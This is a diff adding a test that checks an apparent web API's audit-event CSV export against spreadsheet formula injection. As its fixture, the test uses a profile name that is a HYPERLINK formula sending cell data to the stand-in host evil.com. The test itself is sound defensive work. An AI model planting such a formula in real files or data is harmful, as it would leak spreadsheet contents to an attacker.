@@ -141,3 +141,16 @@ def test_audit_export_csv(api: TestClient) -> None:
     assert rows[0] == ["at", "actor", "action", "target_type", "target_id", "target",
                        "before", "after", "detail"]
     assert any(r[2] == "profile.created" and '"alice"' in r[7] for r in rows[1:])
+
+
+def test_audit_export_neutralises_formulas(api: TestClient) -> None:
+    """R-C6 holds for the audit export too: a profile named like a formula comes out as text,
+    so opening the file in a spreadsheet runs nothing."""
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    create_profile(api, name, "Archer", "alice@acme.example", username="alice")
+    response = api.get(f"{API}/audit-events.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    created = next(r for r in rows[1:] if r[2] == "profile.created")
+    assert created[5] == f"'{name} Archer"
+    assert not [cell for row in rows[1:] for cell in row if cell and cell[0] in "=+-@\t\r"]
